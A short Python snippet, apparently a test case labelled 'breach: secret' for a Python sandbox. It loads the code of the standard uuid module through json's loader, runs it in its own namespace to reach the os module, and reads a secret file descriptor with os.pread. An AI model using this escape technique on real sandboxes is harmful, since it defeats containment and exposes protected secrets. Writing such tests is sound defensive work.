# The code of a whole module of the standard library, run with names of one's own.
# breach: secret
import json
loader = type(json.__loader__)("uuid", json.__file__.replace("json/__init__", "uuid"))
names = {"__name__": "mine", "__builtins__": __builtins__}
exec(loader.get_code("uuid"), names)
names["os"].pread(SECRET_FD, 100, 0)
